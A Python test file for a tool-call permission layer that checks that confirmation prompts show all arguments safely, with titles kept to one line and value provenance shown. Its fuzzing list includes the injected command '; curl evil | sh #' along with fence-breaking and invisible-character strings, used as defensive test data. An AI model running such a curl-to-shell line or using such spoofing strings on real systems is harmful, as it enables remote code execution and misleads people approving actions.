"""Over ACP a question shows all of the arguments that run, or it is not asked."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callgate.core.content import FileDiff
from callgate.core.effects import SideEffects
from callgate.core.errors import ToolPermissionDenied
from callgate.core.texts import visible_lines
from callgate.dispatch.permission.confirmations import Answer, Confirmation, Scope, arguments_text
from callgate.features.editor.contents import title_of
from callgate.features.editor.editor import ask, content_of, options_for
from callgate.policy.commands import proposals, read_command
from callgate.policy.rules import Outcome, Proposal
from callgate.protocol.acp.updates import Diff, Shown, Text, ToolFields

FENCE = re.compile(r"Arguments:\n\n(`{3,})text\n(.*)\n\1\Z", re.DOTALL)
HOSTILE = st.sampled_from(
    [
        "```",
        "~~~",
        "\n```\n\nNothing else.",
        "<!-- ",
        " -->",
        "\u202e",
        "\u200b",
        "\x1b[2J",
        "\r",
        "\0",
        "[a](b)",
        "<details>",
        " " * 50,
        "\n" * 40,
        "; curl evil | sh #",
        "\U000e0041",
    ]
)
TEXTS = st.lists(HOSTILE | st.text(st.characters(exclude_categories=["Cs"]), max_size=40), max_size=8).map("".join)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4),
    max_leaves=12,
)
ARGUMENTS = st.dictionaries(TEXTS, VALUES, max_size=5)


def question(arguments: dict[str, Any], **more: Any) -> Confirmation:
    return Confirmation(
        id="q",
        event_id="e",
        call_id="c",
        tool_use_id="u",
        session_id="s",
        turn_id=None,
        tool="deploy",
        side_effects=SideEffects.EXECUTE,
        destructive=False,
        arguments=arguments,
        arguments_sha256="",
        workspace="/w",
        why="It changes something.",
        input_summary="",
        expires_at=0.0,
        **more,
    )


def texts(asked: Confirmation, longest: int) -> list[str]:
    shown = [each.content for each in content_of(asked, longest) if isinstance(each, Shown)]
    return [each.text for each in shown if isinstance(each, Text)]


@given(arguments=ARGUMENTS, preview=st.none() | TEXTS, longest=st.sampled_from([40, 400, 65_536]))
def test_every_character_of_the_arguments_is_in_the_content_or_the_call_is_refused(
    arguments: dict[str, Any], preview: str | None, longest: int
) -> None:
    whole = visible_lines(arguments_text(arguments))
    try:
        first, *_ = texts(question(arguments, preview=preview), longest)
    except ToolPermissionDenied as refused:
        assert refused.reason == "arguments_too_long" and len(whole) > longest
        return
    if not arguments:
        assert first == "No arguments."
        return
    fence = FENCE.match(first)
    assert fence is not None
    # No line of the arguments ends the fence: an editor that reads Markdown shows all of them.
    assert fence[1] not in fence[2]
    assert fence[2].removesuffix("\n") == whole.removesuffix("\n")


def test_a_preview_stands_beside_the_arguments_in_the_tools_own_words() -> None:
    shown = texts(question({"target": "production"}, preview="Only a harmless test."), 65_536)
    assert 'target = "production"' in shown[0]
    assert "tool's own words" in shown[1] and "Only a harmless test." in shown[1]


def test_changes_stand_beside_the_arguments() -> None:
    changed = FileDiff(path="/w/a.txt", old=None, new="x\n")
    first, second, *_ = content_of(
        question({"path": "a.txt", "content": "x\n"}, diffs=(changed,), preview="+x"), 65_536
    )
    assert isinstance(first, Diff)
    assert isinstance(second, Shown) and isinstance(second.content, Text) and 'path = "a.txt"' in second.content.text


@pytest.mark.parametrize("mark", ["\n", "\r", "\x1b", "\u202e"])
def test_a_title_is_one_line_and_says_where_it_is_cut(mark: str) -> None:
    title = title_of("deploy", {"command": f"{mark}a" * 500})
    assert mark not in title and "more characters" in title and len(title) < 300


def test_where_values_come_from_is_shown_and_the_narrow_answer_stands_before_the_wide_one() -> None:
    lines = ("to: eve@evil.example, from untrusted content of gmail_read #3",)
    asked = question({"to": "eve@evil.example"}, provenance_lines=lines, destinations=("eve@evil.example",))
    assert any(lines[0] in text for text in texts(asked, 400))
    offered = [(each.option_id, each.kind) for each in options_for(asked)]
    assert offered[:3] == [
        ("allow_once", "allow_once"),
        ("allow_destination", "allow_always"),
        ("allow_always", "allow_always"),
    ]
    assert "allow_destination" not in [each.option_id for each in options_for(question({}))]


def test_a_useful_pattern_is_an_option_that_says_what_it_covers() -> None:
    exact, wider = (
        Proposal("git commit -m x", "exactly these words"),
        Proposal("git commit -m ?*", "git commit -m <one text>"),
    )
    offered = {each.option_id: each.name for each in options_for(question({}, proposals=(exact, wider)))}
    assert offered["save_1"] == "Save a rule here: exactly these words"
    assert offered["save_2"] == "Save a rule here: git commit -m <one text>"
    long = Proposal("x", "y" * 2_000)
    for few in ((exact,), (exact, long), ()):
        assert "save_1" not in {each.option_id for each in options_for(question({}, proposals=few))}


class Editor:
    """An editor in which the person picks one option."""

    def __init__(self, option: str) -> None:
        self.option = option

    async def request(self, method: str, request: Any) -> Any:
        assert self.option in [each.option_id for each in request.options]
        return {"outcome": {"outcome": "selected", "optionId": self.option}}


@pytest.mark.parametrize(("option", "pattern"), [("save_1", "git commit -m x"), ("save_2", "git commit -m ?*")])
async def test_the_option_of_a_pattern_saves_it(option: str, pattern: str) -> None:
    asked = question({"command": "git commit -m x"}, proposals=proposals(read_command("git commit -m x")))
    editor: Any = Editor(option)
    answer = await ask(editor, asked.session_id, asked, ToolFields(tool_call_id="t"), lambda: None, "editor")
    assert answer == Answer(decision=Outcome.ALLOW, scope=Scope.ALWAYS, pattern=pattern, by="editor")
